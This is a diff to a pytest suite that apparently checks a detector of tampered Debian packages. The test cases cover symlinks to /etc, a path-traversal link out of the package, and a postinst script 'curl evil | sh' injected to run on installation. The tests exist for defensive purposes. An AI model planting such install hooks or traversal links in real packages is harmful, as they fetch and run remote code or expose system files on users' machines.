@@ -10,7 +10,7 @@ import pytest
 
 from support import blind_spots
 from support.cli import Result, Samego
-from support.deb_repack import Deb, Member, new_file
+from support.deb_repack import Deb, Member, new_file, new_link
 from support.tamper import Tamper, Tampering, finding_path, kind_of, seeded
 
 pytestmark = pytest.mark.network
@@ -172,12 +172,15 @@ def _lone_changes() -> Iterator[tuple[str, int, dict[str, Callable[[Deb], Member
         {f"{_ROOT}/src/evil.go": lambda _deb: new_file("", b"package evil\n")},
         "src/evil.go",
     )
-    yield "a directory's link to /etc", 0, {f"{_ROOT}/lib": _linked("/etc")}, "lib"
-    yield "a link out of the package", 0, {f"{_ROOT}/test": _linked("../../../../../etc")}, "etc"
+    for name, link, target in (
+        ("a directory's link to /etc", f"{_ROOT}/lib", "/etc"),
+        ("a link out of the package", f"{_ROOT}/test", "../../../../../etc"),
+    ):
+        yield name, 0, {link: _linked(target)}, link.rpartition("/")[2]
 
 
 def _linked(target: str) -> Callable[[Deb], Member]:
-    return lambda deb: deb[f"{_ROOT}/lib"].as_link(target)
+    return lambda _deb: new_link("", target)
 
 
 @pytest.mark.parametrize(
@@ -212,4 +215,4 @@ def test_a_script_that_runs_on_installation_is_named(
     changed = debs[0].repack(tmp_path, {}, {"postinst": b"#!/bin/sh\ncurl evil | sh\n"})
     assert changed.name == go.name
     found = _standings(check(changed, *others))
-    assert found["/DEBIAN/postinst"] == "unexplained"
+    assert found["/DEBIAN/golang-1.24-go.postinst"] == "unexplained"
